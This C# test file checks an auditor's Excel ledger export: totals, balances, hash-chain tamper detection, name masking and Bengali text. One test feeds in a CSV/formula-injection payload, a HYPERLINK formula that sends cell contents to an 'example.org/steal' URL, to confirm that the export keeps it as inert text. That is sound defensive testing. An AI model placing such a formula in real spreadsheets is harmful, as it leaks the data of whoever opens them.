using System.Text.RegularExpressions;
using ClosedXML.Excel;
using Kaarya.Domain.Common;
using Kaarya.Domain.Funding;
using Kaarya.Tests.Data;
using Kaarya.Tests.Domain;
using Kaarya.Web.Data;
using Kaarya.Web.Features.Exports;
using Kaarya.Web.Features.Exports.Sheets;
using Kaarya.Web.Features.Exports.Xlsx;
using Kaarya.Web.Features.Funding;
using Microsoft.EntityFrameworkCore;

namespace Kaarya.Tests.Exports;

/// <summary>
/// The auditor's workbook over the demo programme in a real SQLite database, read back by
/// ClosedXML. Every expected figure is computed here from the database, not by the export's code.
/// </summary>
public sealed partial class LedgerWorkbookTests
{
    private static readonly DateOnly August1 = new(2013, 8, 1);
    private static readonly DateOnly August31 = new(2013, 8, 31);

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Every_ledger_entry_appears_once_in_sequence_with_its_amount_kind_and_hash()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        var expected = await EntriesAsync(database, _ => true);
        Assert.True(expected.Count >= 5, "The demo ledger should have entries to export.");

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter());

        var sheet = workbook.Sheet(LedgerSheet.Name);
        var table = sheet.Tables.Single();
        Assert.Equal(LedgerSheet.TableName, table.Name);
        var rows = table.DataRange.Rows().ToList();
        Assert.Equal(expected.Select(e => e.Sequence), rows.Select(r => r.Field(LedgerSheet.Sequence).GetValue<long>()));
        Assert.Equal(expected.Select(e => e.Hash), rows.Select(r => r.Field(LedgerSheet.Hash).GetString()));
        Assert.Equal(expected.Select(e => Rupees(e.AmountPaise)), rows.Select(r => r.Field(LedgerSheet.Amount).GetValue<decimal>()));
        Assert.Equal(
            expected.Select(e => e.ReversesSequence is { } reversed ? $"Reversal of #{reversed}" : "Disbursement"),
            rows.Select(r => r.Field(LedgerSheet.Kind).GetString()));
        Assert.Equal(expected.Select(e => e.ValueDate.ToDateTime(TimeOnly.MinValue)), rows.Select(r => r.Field(LedgerSheet.ValueDate).GetDateTime()));
        Assert.Equal(expected.Count, workbook.Result.Entries);
    }

    [Fact]
    public async Task Summary_and_balances_add_up_to_the_ledger_for_the_same_filter()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        await using var db = database.CreateDbContext();
        var phase = await db.Phases.SingleAsync(p => p.Name.StartsWith("Phase 2"), Cancel);
        var funder = await db.Funders.SingleAsync(Cancel);
        // August and November have entries; September and October none; a report of 23 November falls after the period.
        var filter = new LedgerExportFilter(August1, new DateOnly(2013, 11, 10), phase.Id);
        var entries = await EntriesAsync(database, e => e.PhaseId == phase.Id && e.ValueDate >= filter.From && e.ValueDate <= filter.To);
        Assert.Contains(entries, e => e.AmountPaise < 0);

        using var workbook = await ExportedWorkbook.ExportAsync(database, filter);

        // Summary: funder by month, each a live SUMIFS whose stored value is the database's sum.
        var summary = workbook.Sheet(SummarySheet.Name);
        var funderRow = ExportedWorkbook.RowOf(summary, funder.Name);
        var months = entries.Select(e => new DateOnly(e.ValueDate.Year, e.ValueDate.Month, 1)).Distinct().Order().ToList();
        Assert.Equal(2, months.Count);
        Assert.Equal(4, summary.Row(2).CellsUsed().Count(c => c.DataType == XLDataType.DateTime));
        foreach (var month in months)
        {
            var column = summary.Row(2).CellsUsed().Single(c => c.DataType == XLDataType.DateTime && c.GetDateTime() == month.ToDateTime(TimeOnly.MinValue)).Address.ColumnNumber;
            var cell = summary.Cell(funderRow, column);
            Assert.StartsWith("SUMIFS(Ledger[Amount],Ledger[Funder],$A", cell.FormulaA1, StringComparison.Ordinal);
            Assert.Equal(Rupees(entries.Where(e => e.ValueDate.Month == month.Month).Sum(e => e.AmountPaise)), ExportedWorkbook.Stored(cell));
        }

        var net = Rupees(entries.Sum(e => e.AmountPaise));
        var disbursed = Rupees(entries.Where(e => e.AmountPaise > 0).Sum(e => e.AmountPaise));
        var reversed = Rupees(entries.Where(e => e.AmountPaise < 0).Sum(e => e.AmountPaise));
        var totalColumn = ExportedWorkbook.Column(summary, "Total", headerRow: 2);
        Assert.Equal(net, ExportedWorkbook.Stored(summary.Cell(funderRow, totalColumn)));
        Assert.Equal(net, ExportedWorkbook.Stored(summary.Cell(ExportedWorkbook.RowOf(summary, "Total"), totalColumn)));

        // Summary: by phase.
        var phaseRow = ExportedWorkbook.RowOf(summary, phase.Name);
        Assert.Equal(disbursed, ExportedWorkbook.Stored(summary.Cell(phaseRow, 2)));
        Assert.Equal(reversed, ExportedWorkbook.Stored(summary.Cell(phaseRow, 3)));
        Assert.Equal(net, ExportedWorkbook.Stored(summary.Cell(phaseRow, 4)));
        Assert.Contains("Ledger[Amount],\">0\"", summary.Cell(phaseRow, 2).FormulaA1, StringComparison.Ordinal);
        Assert.Equal(net, ExportedWorkbook.Stored(summary.Cell(ExportedWorkbook.RowOf(summary, "Ledger table total"), 2)));
        Assert.Equal("SUM(Ledger[Amount])", summary.Cell(ExportedWorkbook.RowOf(summary, "Ledger table total"), 2).FormulaA1);
        Assert.Equal(0m, ExportedWorkbook.Stored(summary.Cell(ExportedWorkbook.RowOf(summary, "Funder total less ledger total"), 2)));

        // Balances: the totals row, and its lines, against the database.
        var decided = Rupees((await db.DisbursementDecisions.AsNoTracking()
            .Where(d => d.PhaseId == phase.Id && d.Kind == DecisionKind.Immediate && d.DecidedOn <= filter.To).ToListAsync(Cancel)).Sum(d => d.Amount.Paise));
        var sequences = entries.Select(e => e.Sequence).ToHashSet();
        var utilised = Rupees((await db.UtilisationReports.AsNoTracking().Where(r => r.ReportedOn <= filter.To).ToListAsync(Cancel))
            .Where(r => sequences.Contains(r.LedgerSequence)).Sum(r => r.Total.Paise));
        Assert.True(utilised > 0, "The demo data should report some use of the period's money by its end.");
        var balances = workbook.Sheet(BalancesSheet.Name);
        var totalRow = ExportedWorkbook.RowOf(balances, "Total");
        var expectedTotals = new Dictionary<string, decimal>
        {
            ["Decided"] = decided,
            ["Disbursed"] = disbursed,
            ["Reversed"] = reversed,
            ["Net"] = net,
            ["Utilised"] = utilised,
        };
        foreach (var (heading, value) in expectedTotals)
        {
            var column = ExportedWorkbook.Column(balances, heading);
            var total = balances.Cell(totalRow, column);
            Assert.StartsWith("SUM(", total.FormulaA1, StringComparison.Ordinal);
            Assert.Equal(value, ExportedWorkbook.Stored(total));
            Assert.Equal(value, Enumerable.Range(2, totalRow - 2).Sum(row => ExportedWorkbook.Number(balances.Cell(row, column))));
        }

        // Manifest.
        var manifest = workbook.Sheet(ManifestSheet.Name);
        Assert.Equal(entries.Count, manifest.Cell(ExportedWorkbook.RowOf(manifest, "Entries in this workbook"), 2).GetValue<int>());
        Assert.Equal(disbursed, ExportedWorkbook.Number(manifest.Cell(ExportedWorkbook.RowOf(manifest, "Total disbursed"), 2)));
        Assert.Equal(reversed, ExportedWorkbook.Number(manifest.Cell(ExportedWorkbook.RowOf(manifest, "Total reversed"), 2)));
    }

    [Fact]
    public async Task Opening_and_closing_balances_per_funder_bring_forward_what_was_paid_before_the_period()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        var from = new DateOnly(2013, 8, 15);
        var all = await EntriesAsync(database, _ => true);
        var before = Rupees(all.Where(e => e.ValueDate < from).Sum(e => e.AmountPaise));
        var inPeriod = Rupees(all.Where(e => e.ValueDate >= from).Sum(e => e.AmountPaise));
        Assert.True(before > 0 && inPeriod != 0, "The demo ledger should have money on both sides of 15 August.");

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter(From: from));

        var manifest = workbook.Sheet(ManifestSheet.Name);
        var header = ExportedWorkbook.RowOf(manifest, "Balances by funder") + 1;
        var funderRow = header + 1;
        Assert.Equal(before, ExportedWorkbook.Number(manifest.Cell(funderRow, ExportedWorkbook.Column(manifest, "Opening balance", header))));
        Assert.Equal(inPeriod, ExportedWorkbook.Number(manifest.Cell(funderRow, ExportedWorkbook.Column(manifest, "Net in period", header))));
        Assert.Equal(before + inPeriod, ExportedWorkbook.Number(manifest.Cell(funderRow, ExportedWorkbook.Column(manifest, "Closing balance", header))));
    }

    [Fact]
    public async Task The_manifest_names_the_ledger_head_and_the_intact_chain()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        var last = (await EntriesAsync(database, _ => true))[^1];

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter(August1, August31));

        var manifest = workbook.Sheet(ManifestSheet.Name);
        Assert.Equal(last.Hash, manifest.Cell(ExportedWorkbook.RowOf(manifest, "Ledger head hash"), 2).GetString());
        Assert.Equal($"#{last.Sequence}", manifest.Cell(ExportedWorkbook.RowOf(manifest, "Ledger head at export"), 2).GetString());
        Assert.StartsWith($"Intact: {last.Sequence} entries", manifest.Cell(ExportedWorkbook.RowOf(manifest, "Hash chain"), 2).GetString(), StringComparison.Ordinal);
        Assert.Equal("auditor.kp (auditor)", manifest.Cell(ExportedWorkbook.RowOf(manifest, "Generated by"), 2).GetString());
        Assert.Equal(database.Clock.GetUtcNow().ToOffset(ProgrammeCalendar.IndiaOffset).DateTime,
            manifest.Cell(ExportedWorkbook.RowOf(manifest, "Generated at (India time)"), 2).GetDateTime());
        Assert.Equal(August1.ToDateTime(TimeOnly.MinValue), manifest.Cell(ExportedWorkbook.RowOf(manifest, "Period from (value date)"), 2).GetDateTime());
        Assert.Equal("All funders", manifest.Cell(ExportedWorkbook.RowOf(manifest, "Funder"), 2).GetString());
        Assert.True(workbook.Result.Verification.IsIntact);
    }

    [Fact]
    public async Task A_tampered_entry_is_named_in_the_manifest_and_every_entry_is_still_exported()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        await database.ExecuteRawAsync(LedgerGuard.DropSqlite);
        await database.ExecuteRawAsync("UPDATE LedgerEntries SET AmountPaise = AmountPaise + 100 WHERE Sequence = 3");
        var count = (await EntriesAsync(database, _ => true)).Count;

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter());

        Assert.False(workbook.Result.Verification.IsIntact);
        Assert.Equal(3, workbook.Result.Verification.FirstBadSequence);
        var manifest = workbook.Sheet(ManifestSheet.Name);
        Assert.StartsWith("NOT INTACT at entry #3", manifest.Cell(ExportedWorkbook.RowOf(manifest, "Hash chain"), 2).GetString(), StringComparison.Ordinal);
        Assert.Equal(count, workbook.Sheet(LedgerSheet.Name).Tables.Single().DataRange.RowCount());
    }

    [Fact]
    public async Task Text_that_looks_like_a_formula_stays_exactly_that_text()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        string[] hostile = ["=HYPERLINK(\"http://example.org/steal?d=\"&A1,\"Receipt\")", "+91 98300 00000", "-2+3", "@SUM(1,1)"];
        var posted = new Dictionary<long, string>();
        foreach (var reference in hostile)
        {
            posted[await PostAsync(database, reference)] = reference;
        }

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter());

        var rows = workbook.Sheet(LedgerSheet.Name).Tables.Single().DataRange.Rows().ToList();
        foreach (var (sequence, reference) in posted)
        {
            var cell = rows.Single(r => r.Field(LedgerSheet.Sequence).GetValue<long>() == sequence).Field(LedgerSheet.Reference);
            Assert.False(cell.HasFormula);
            Assert.Equal(XLDataType.Text, cell.DataType);
            Assert.Equal(reference, cell.GetString());
            Assert.True(cell.Style.IncludeQuotePrefix, $"\"{reference}\" should carry the quote prefix.");
        }

        var plain = rows.First(r => r.Field(LedgerSheet.Reference).GetString().StartsWith("GGBK", StringComparison.Ordinal)).Field(LedgerSheet.Reference);
        Assert.False(plain.Style.IncludeQuotePrefix);

        // Not one formula on the Ledger sheet: every formula of the workbook is on the sheets that sum it.
        Assert.DoesNotMatch(FormulaElement(), workbook.SheetXml(LedgerSheet.Name));
        Assert.Empty(workbook.ValidationErrors());
    }

    [Fact]
    public async Task Names_are_masked_unless_granted()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        var names = await GivenNamesAsync(database);

        using var byAuditor = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter());
        using var byManager = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter(), ExportedWorkbook.Manager);

        foreach (var workbook in new[] { byAuditor, byManager })
        {
            // As a word: ClosedXML's theme names the font "DokChampa", which is not Champa's name.
            var everything = workbook.AllPartsText();
            Assert.All(names.Values, name => Assert.DoesNotMatch(AsAWord(name), everything));
            Assert.DoesNotContain(LedgerSheet.ParticipantName, workbook.Sheet(LedgerSheet.Name).Tables.Single().Fields.Select(f => f.Name));
            Assert.Contains("Not shown", workbook.Sheet(ManifestSheet.Name).Cell(ExportedWorkbook.RowOf(workbook.Sheet(ManifestSheet.Name), "Participant names"), 2).GetString(), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Bengali_names_and_text_round_trip_exactly_when_a_manager_grants_names()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        var names = await GivenNamesAsync(database);
        Assert.Contains(names.Values, IsBengali);
        const string bengaliReference = "রসিদ নং ১২ — ছাগলের খাবার";
        var sequence = await PostAsync(database, bengaliReference);

        var shared = await NamesSharedWithFundersAsync(database);

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter(IncludeNames: true), ExportedWorkbook.Manager);

        var rows = workbook.Sheet(LedgerSheet.Name).Tables.Single().DataRange.Rows().ToList();
        Assert.All(rows, row => Assert.Equal(shared[row.Field(LedgerSheet.Participant).GetString()], row.Field(LedgerSheet.ParticipantName).GetString()));
        Assert.Contains(rows, row => IsBengali(row.Field(LedgerSheet.ParticipantName).GetString()));
        Assert.Equal(bengaliReference, rows.Single(r => r.Field(LedgerSheet.Sequence).GetValue<long>() == sequence).Field(LedgerSheet.Reference).GetString());

        var balances = workbook.Sheet(BalancesSheet.Name);
        var nameColumn = ExportedWorkbook.Column(balances, "Name");
        var codeColumn = ExportedWorkbook.Column(balances, "Participant");
        var lines = Enumerable.Range(2, ExportedWorkbook.RowOf(balances, "Total") - 2).ToList();
        Assert.All(lines, row => Assert.Equal(shared[balances.Cell(row, codeColumn).GetString()], balances.Cell(row, nameColumn).GetString()));
        Assert.Contains("granted by manager.sutapa", workbook.Sheet(ManifestSheet.Name).Cell(ExportedWorkbook.RowOf(workbook.Sheet(ManifestSheet.Name), "Participant names"), 2).GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_empty_period_gives_a_sound_workbook_with_zero_totals()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        var quiet = new DateOnly(2012, 1, 15);

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter(quiet, quiet));

        Assert.Empty(workbook.ValidationErrors());
        Assert.Equal(0, workbook.Result.Entries);
        Assert.Equal(
            ["Manifest", "Ledger", "Balances", "Summary", "Decisions", "Utilisation"],
            workbook.Book.Worksheets.Select(s => s.Name));
        var table = workbook.Sheet(LedgerSheet.Name).Tables.Single();
        Assert.All(table.DataRange.Cells(), cell => Assert.True(cell.IsEmpty()));

        var summary = workbook.Sheet(SummarySheet.Name);
        Assert.Equal(0m, ExportedWorkbook.Stored(summary.Cell(ExportedWorkbook.RowOf(summary, "Ledger table total"), 2)));
        var total = summary.Cell(ExportedWorkbook.RowOf(summary, "Total"), ExportedWorkbook.Column(summary, "Total", headerRow: 2));
        Assert.Equal(0m, total.HasFormula ? ExportedWorkbook.Stored(total) : total.GetValue<decimal>());
        var manifest = workbook.Sheet(ManifestSheet.Name);
        Assert.Equal(0, manifest.Cell(ExportedWorkbook.RowOf(manifest, "Entries in this workbook"), 2).GetValue<int>());
        Assert.Equal(0m, ExportedWorkbook.Number(manifest.Cell(ExportedWorkbook.RowOf(manifest, "Net paid"), 2)));
        var balances = workbook.Sheet(BalancesSheet.Name);
        Assert.Equal(2, ExportedWorkbook.RowOf(balances, "Total"));
    }

    [Fact]
    public async Task Dates_and_amounts_are_numbers_shown_through_their_formats_in_sized_columns()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter());

        var sheet = workbook.Sheet(LedgerSheet.Name);
        var row = sheet.Tables.Single().DataRange.FirstRow();
        Assert.Equal(XLDataType.DateTime, row.Field(LedgerSheet.ValueDate).DataType);
        Assert.Equal(XlsxStyles.DateFormat, row.Field(LedgerSheet.ValueDate).Style.NumberFormat.Format);
        Assert.Equal(XLDataType.DateTime, row.Field(LedgerSheet.PostedAt).DataType);
        Assert.Equal(XLDataType.Number, row.Field(LedgerSheet.Amount).DataType);
        Assert.Equal(XlsxStyles.RupeeFormat, row.Field(LedgerSheet.Amount).Style.NumberFormat.Format);
        Assert.Equal(1, sheet.SheetView.SplitRow);
        Assert.True(sheet.Tables.Single().ShowAutoFilter);

        var hashColumn = ExportedWorkbook.Column(sheet, LedgerSheet.Hash);
        var methodColumn = ExportedWorkbook.Column(sheet, LedgerSheet.Method);
        Assert.True(sheet.Column(hashColumn).Width > sheet.Column(methodColumn).Width);
        // ClosedXML reads a width back less Excel's cell padding, a fraction of a character.
        Assert.InRange(sheet.Column(methodColumn).Width, ColumnWidths.For("Bank transfer".Length) - 1, ColumnWidths.For("Bank transfer".Length));
        Assert.Empty(workbook.ValidationErrors());
    }

    [Fact]
    public async Task Every_sheet_keeps_its_formats_whether_closedxml_built_it_or_it_was_streamed()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter());

        // ClosedXML's sheets: their formats moved along when the streamed formats went first.
        var manifest = workbook.Sheet(ManifestSheet.Name);
        Assert.True(manifest.Cell(1, 1).Style.Font.Bold);
        Assert.Equal(14, manifest.Cell(1, 1).Style.Font.FontSize);
        var netPaid = manifest.Cell(ExportedWorkbook.RowOf(manifest, "Net paid"), 2);
        Assert.True(netPaid.Style.Font.Bold);
        Assert.Equal(XlsxStyles.RupeeFormat, netPaid.Style.NumberFormat.Format);
        var summary = workbook.Sheet(SummarySheet.Name);
        Assert.True(summary.Cell(ExportedWorkbook.RowOf(summary, "Total"), 1).Style.Font.Bold);

        // The streamed sheets: each cell's style by its number.
        var ledger = workbook.Sheet(LedgerSheet.Name);
        Assert.True(ledger.Cell(1, 1).Style.Font.Bold);
        Assert.Equal(XLBorderStyleValues.Thin, ledger.Cell(1, 1).Style.Border.BottomBorder);
        var reversal = ledger.Tables.Single().DataRange.Rows().First(r => r.Field(LedgerSheet.Kind).GetString().StartsWith("Reversal", StringComparison.Ordinal));
        Assert.Equal(XlsxStyles.NegativeRupeeFormat, reversal.Field(LedgerSheet.Amount).Style.NumberFormat.Format);
        Assert.Equal(XlsxStyles.DateFormat, reversal.Field(LedgerSheet.ValueDate).Style.NumberFormat.Format);
        var decisions = workbook.Sheet(DecisionsSheet.Name);
        Assert.Equal(XlsxStyles.DateFormat, decisions.Cell(2, ExportedWorkbook.Column(decisions, "Decided on")).Style.NumberFormat.Format);
        var balances = workbook.Sheet(BalancesSheet.Name);
        var total = balances.Cell(ExportedWorkbook.RowOf(balances, "Total"), ExportedWorkbook.Column(balances, "Disbursed"));
        Assert.True(total.Style.Font.Bold);
        Assert.Equal(XlsxStyles.RupeeFormat, total.Style.NumberFormat.Format);
        Assert.True(total.HasFormula);
        Assert.Empty(workbook.ValidationErrors());
    }

    [Fact]
    public async Task Progress_is_told_from_start_to_finish_and_cancelling_stops_the_export()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter());

        Assert.Equal(ExportStep.Finished, workbook.Progress[^1].Step);
        Assert.Contains(workbook.Progress, p => p.Step == ExportStep.Ledger && p.Done == workbook.Result.Entries && p.Total == workbook.Result.Entries);
        Assert.Equal(workbook.Progress.Select(p => p.Fraction).Order(), workbook.Progress.Select(p => p.Fraction));

        using var cancelled = new CancellationTokenSource();
        await cancelled.CancelAsync();
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() =>
            ExportedWorkbook.Exporter(database).WriteAsync(new LedgerExportFilter(), ExportedWorkbook.Auditor, Stream.Null, null, cancelled.Token));
    }

    [Fact]
    public async Task A_period_that_ends_before_it_starts_is_refused()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();

        var refused = await Assert.ThrowsAsync<DomainException>(() => ExportedWorkbook.ExportAsync(database, new LedgerExportFilter(August31, August1)));

        Assert.Equal("period-reversed", refused.Code);
    }

    private static decimal Rupees(long paise) => paise / 100m;

    private static bool IsBengali(string text) => text.Any(c => c is >= '\u0980' and <= '\u09FF');

    private static async Task<List<LedgerEntry>> EntriesAsync(TestDatabase database, Func<LedgerEntry, bool> where)
    {
        await using var db = database.CreateDbContext();
        return (await db.LedgerEntries.AsNoTracking().OrderBy(e => e.Sequence).ToListAsync(Cancel)).Where(where).ToList();
    }

    [Fact]
    public async Task A_name_granted_for_an_export_is_left_out_once_she_withdraws_her_consent_to_share_it_with_funders()
    {
        await using var database = await ExportedWorkbook.DemoDatabaseAsync();
        var names = await GivenNamesAsync(database);
        await using (var db = database.CreateDbContext())
        {
            db.ActingAs(Actors.Staff);
            var kaa01 = await db.Participants.SingleAsync(p => p.Code == Kaarya.Domain.Participants.ParticipantCode.Create("KAA-01"), Cancel);
            kaa01.RecordConsent(Kaarya.Domain.Participants.ConsentPurpose.SharedWithFunder, granted: false, new DateOnly(2013, 9, 1));
            await db.SaveChangesAsync(Cancel);
        }

        using var workbook = await ExportedWorkbook.ExportAsync(database, new LedgerExportFilter(IncludeNames: true), ExportedWorkbook.Manager);

        var rows = workbook.Sheet(LedgerSheet.Name).Tables.Single().DataRange.Rows().ToList();
        var hers = rows.Where(r => r.Field(LedgerSheet.Participant).GetString() == "KAA-01").ToList();
        Assert.NotEmpty(hers);
        Assert.All(hers, r => Assert.Equal(string.Empty, r.Field(LedgerSheet.ParticipantName).GetString()));
        Assert.DoesNotMatch(AsAWord(names["KAA-01"]), workbook.AllPartsText());
        Assert.Contains(rows, r => r.Field(LedgerSheet.ParticipantName).GetString().Length > 0);
    }

    /// <summary>Each participant's name as an export to funders may show it today (Participant.NameForFundersOn), or nothing.</summary>
    private static async Task<Dictionary<string, string>> NamesSharedWithFundersAsync(TestDatabase database)
    {
        await using var db = database.CreateDbContext();
        var today = ProgrammeCalendar.Today(database.Clock);
        return (await db.Participants.AsNoTracking().ToListAsync(Cancel))
            .ToDictionary(p => p.Code.Value, p => p.NameForFundersOn(today) ?? string.Empty);
    }

    private static async Task<Dictionary<string, string>> GivenNamesAsync(TestDatabase database)
    {
        await using var db = database.CreateDbContext();
        return (await db.Participants.AsNoTracking().Select(p => new { p.Code, p.GivenName }).ToListAsync(Cancel))
            .ToDictionary(p => p.Code.Value, p => p.GivenName);
    }

    /// <summary>Staff records ₹100 by cheque against a demo decision with room left; the manager approves it.</summary>
    private static async Task<long> PostAsync(TestDatabase database, string reference)
    {
        Guid decisionId;
        Guid funderId;
        await using (var db = database.CreateDbContext())
        {
            var paid = (await db.LedgerEntries.AsNoTracking().ToListAsync(Cancel)).GroupBy(e => e.DecisionId).ToDictionary(g => g.Key, g => g.Sum(e => e.AmountPaise));
            var decisions = await db.DisbursementDecisions.AsNoTracking().Where(d => d.Kind == DecisionKind.Immediate).ToListAsync(Cancel);
            decisionId = decisions.First(d => d.Amount.Paise - paid.GetValueOrDefault(d.Id) >= 10_000).Id;
            funderId = await db.Funders.Select(f => f.Id).FirstAsync(Cancel);
        }

        var service = new DisbursementService(database, database.Clock);
        var request = await service.RecordRequestAsync(
            new DisbursementRequestInput
            {
                DecisionId = decisionId,
                FunderId = funderId,
                Amount = "100",
                ValueDate = new DateOnly(2013, 9, 2),
                Method = PaymentMethod.Cheque,
                Reference = reference,
            },
            Actors.Staff,
            Cancel);
        return (await service.ApproveAsync(request, Actors.Manager, Cancel)).Sequence;
    }

    /// <summary>The text not inside a longer word; letters, marks (Bengali vowel signs) and digits make up a word.</summary>
    private static Regex AsAWord(string text) => new($@"(?<![\p{{L}}\p{{M}}\p{{Nd}}]){Regex.Escape(text)}(?![\p{{L}}\p{{M}}\p{{Nd}}])");

    [GeneratedRegex("<([a-z]+:)?f[ >]")]
    private static partial Regex FormulaElement();
}
